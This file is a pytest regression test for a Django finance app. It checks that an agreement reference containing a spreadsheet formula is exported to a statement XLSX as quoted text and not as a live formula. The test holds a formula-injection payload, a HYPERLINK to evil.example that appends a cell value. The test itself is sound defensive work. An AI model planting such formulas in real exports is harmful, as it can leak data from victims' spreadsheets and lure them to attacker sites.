"""Finding 2: an agreement reference typed as a formula stays text in the statement's
XLSX (written through the safe writer of hubro.core.tabular)."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hubro.finance import actions

from .conftest import YEAR

FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Betal her")'


@pytest.mark.django_db
def test_a_formula_in_the_reference_is_text_in_the_statement_xlsx(
    client, hub, vera, four, farsund, costs_2025, usage_2025, coordinator_farsund
):
    actions.choose_key(hub, YEAR, "usage", actor=vera)
    actions.save_agreement(
        hub,
        actor=vera,
        organization=farsund,
        starts_on=dt.date(YEAR, 1, 1),
        ends_on=dt.date(YEAR, 12, 31),
        status="signed",
        basis="share",
        reference=FORMULA,
    )
    client.force_login(coordinator_farsund)
    response = client.get(reverse("finance:statement_xlsx", args=[hub.slug, YEAR, farsund.orgnr]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells, "the reference is missing from the statement"
    for cell in cells:
        assert cell.data_type == "s"  # text, not "f" (a formula)
        assert cell.quotePrefix
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
